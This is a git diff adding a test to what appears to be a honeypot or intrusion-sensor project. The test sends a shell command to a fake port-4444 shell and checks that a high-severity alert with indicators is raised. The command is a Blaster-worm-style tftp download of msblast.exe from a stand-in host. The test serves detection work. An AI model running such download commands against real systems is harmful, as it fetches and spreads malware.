@@ -92,3 +92,31 @@ test('a shell session shows its transcript in the API and the CLI, and its raw b
   assert.equal(json.transcript!.entries.filter((e) => e.dir === 'in').length, 4);
   assert.deepEqual(await inProcess(['sessions', 'show', id, '--raw', '--data-dir', dataDir]), sent);
 });
+
+test('a command typed into the 4444 shell with no exploit before it raises shell_command, titled cleanly, with its indicators', async () => {
+  const dataDir = tempDir('shell-alert');
+  const httpPort = await freePort();
+  const config = loadConfig({ env: {}, flags: { dataDir, http: { host: '127.0.0.1', port: httpPort }, sensor: { ports: [135, 4444] }, log: { level: 'silent' } } });
+  const n = await startNode(config, { ephemeralPorts: true, sensorHosts: ['127.0.0.1'], logger: pino({ level: 'silent' }) });
+  try {
+    await typeAndExit(n.sensor.portFor(4444)!, Buffer.from('tftp -i 192.0.2.9 GET msblast.exe\r\nexit\r\n'));
+    interface AlertLike { rule: string; severity: string; title: string; session?: string; indicators: { type: string; value: string }[]; evidence: Record<string, unknown> }
+    let alert: AlertLike | undefined;
+    for (let i = 0; i < 200 && !alert; i++) {
+      const r = await api<{ items: AlertLike[] }>(n.httpAddress, n.token, '/api/v1/alerts?rule=shell_command');
+      alert = r.body?.items?.find((a) => a.title.includes('msblast'));
+      if (!alert) await new Promise((r2) => setTimeout(r2, 25));
+    }
+    assert.ok(alert, 'a shell_command alert without any exploit before it');
+    assert.equal(alert.severity, 'high');
+    assert.match(alert.title, /^command typed into a shell on 127\.0\.0\.1:4444: tftp -i 192\.0\.2\.9 GET msblast\.exe$/);
+    const ind = alert.indicators.map((i) => `${i.type}=${i.value}`);
+    for (const want of ['ipv4-addr=127.0.0.1', 'command=tftp -i 192.0.2.9 GET msblast.exe', 'url=tftp://192.0.2.9/msblast.exe', 'ipv4-addr=192.0.2.9', 'file-name=msblast.exe']) {
+      assert.ok(ind.includes(want), `${want} in ${ind.join(', ')}`);
+    }
+    const exits = await api<{ items: AlertLike[] }>(n.httpAddress, n.token, '/api/v1/alerts?rule=shell_command');
+    assert.ok(exits.body.items.some((a) => a.title.endsWith(': exit')), '`exit` is a typed command too');
+  } finally {
+    await n.stop();
+  }
+});
